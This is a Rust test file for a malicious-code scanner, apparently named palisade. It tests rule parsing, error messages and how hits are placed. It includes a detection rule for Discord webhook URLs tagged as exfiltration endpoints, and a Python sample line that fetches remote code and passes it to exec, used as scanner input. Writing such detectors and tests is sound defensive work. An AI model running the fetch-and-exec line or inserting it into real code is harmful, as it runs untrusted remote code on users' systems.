use super::*;

const GOOD: &str = r#"
[[rule]]
id = "test/webhook"
category = "exfiltration"
severity = "high"
signal = "indicator"
tags = ["exfil-endpoint"]
summary = "s"
why = "w"
example = "e"
patterns = ['discord(?:app)?\.com/api/webhooks/']
tests.match = ["https://discord.com/api/webhooks/1/x"]
tests.no_match = ["https://discord.com/invite/x"]
"#;

#[test]
fn a_valid_rule_compiles_with_derived_atoms_and_matches() {
    let rules = parse_rules("good.toml", GOOD).unwrap();
    assert_eq!(rules[0].info.id, "test/webhook");
    assert_eq!(rules[0].atoms, ["discord.com/", "discordapp.c"]);
    let set = RuleSet::new(rules).unwrap();
    let text = b"x = 'https://DISCORD.com/api/webhooks/1/abc'";
    assert!(
        set.scan(text, Language::Python).is_empty(),
        "regex is case-sensitive"
    );
    let hits = set.scan(
        b"u='https://discordapp.com/api/webhooks/9/t'",
        Language::Python,
    );
    assert_eq!(hits.len(), 1);
    assert!(set.scan(b"nothing here", Language::Python).is_empty());
}

#[test]
fn errors_name_the_file_and_line() {
    let bad_regex = GOOD.replace(r"discord(?:app)?\.com/api/webhooks/", "discord(");
    let err = parse_rules("r.toml", &bad_regex).unwrap_err();
    assert_eq!((err.file.as_str(), err.line), ("r.toml", 11));
    assert!(err.reason.contains("invalid pattern"), "{err}");

    let bad_severity = GOOD.replace("\"high\"", "\"huge\"");
    let err = parse_rules("r.toml", &bad_severity).unwrap_err();
    assert_eq!(err.line, 5);
    assert!(err.reason.contains("unknown severity"));

    let unknown_field = GOOD.replace("summary = \"s\"", "summary = \"s\"\ncolour = 1");
    let err = parse_rules("r.toml", &unknown_field).unwrap_err();
    assert!(err.reason.contains("colour"), "{err}");
}

#[test]
fn a_pattern_without_a_literal_is_refused_as_slow() {
    let slow = GOOD.replace(
        r"discord(?:app)?\.com/api/webhooks/",
        r"[A-Za-z0-9+/]{300,}",
    );
    let err = parse_rules("r.toml", &slow).unwrap_err();
    assert!(err.reason.contains("slow pattern"), "{err}");
    let with_atoms = slow.replace(
        "tests.match = [\"https://discord.com/api/webhooks/1/x\"]\n",
        "atoms = [\"aaa\"]\n",
    );
    assert!(parse_rules("r.toml", &with_atoms).is_ok());
}

#[test]
fn a_rule_failing_its_own_examples_is_refused() {
    let wrong = GOOD.replace(
        "tests.no_match = [\"https://discord.com/invite/x\"]",
        "tests.no_match = [\"discord.com/api/webhooks/\"]",
    );
    let err = parse_rules("r.toml", &wrong).unwrap_err();
    assert!(err.reason.contains("negative test"), "{err}");
}

#[test]
fn every_builtin_rule_loads_and_passes_its_examples() {
    let set = RuleSet::builtin();
    assert!(
        set.rules.len() >= 40,
        "only {} built-in rules",
        set.rules.len()
    );
    for rule in &set.rules {
        assert!(
            !rule.info.why.is_empty() && !rule.info.summary.is_empty(),
            "{}",
            rule.info.id
        );
    }
}

#[test]
fn user_rule_folders_add_rules_and_report_bad_files() {
    let dir = std::env::temp_dir().join(format!("palisade-rules-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    std::fs::write(dir.join("mine.toml"), GOOD).unwrap();
    let set = RuleSet::with_user_dirs(std::slice::from_ref(&dir)).unwrap();
    assert!(set.rules.iter().any(|r| r.info.id == "test/webhook"));
    std::fs::write(dir.join("mine.toml"), "[[rule]]\nid = 3\n").unwrap();
    let err = RuleSet::with_user_dirs(std::slice::from_ref(&dir)).unwrap_err();
    assert!(err.file.ends_with("mine.toml") && err.line == 2, "{err}");
    std::fs::remove_dir_all(&dir).unwrap();
}

#[test]
fn a_hit_after_a_line_break_is_placed_on_its_own_line() {
    // `(?:^|[^.\w])exec` consumes the newline before `exec`; the hit belongs to the
    // line of `exec`, with CRLF or LF endings alike.
    let rules = RuleSet::builtin();
    for text in [
        "x = 1\r\n\r\nexec(__import__('requests').get('http://h/v').text)\r\n",
        "x = 1\n\nexec(__import__('requests').get('http://h/v').text)\n",
    ] {
        let hits = rules.scan(text.as_bytes(), Language::Python);
        let exec_hit = hits
            .iter()
            .find(|h| rules.rules[h.rule].info.id == "execution/python-exec-remote")
            .expect("the rule fires");
        assert!(
            text[exec_hit.start..].starts_with("exec("),
            "{:?}",
            &text[exec_hit.start..]
        );
    }
}
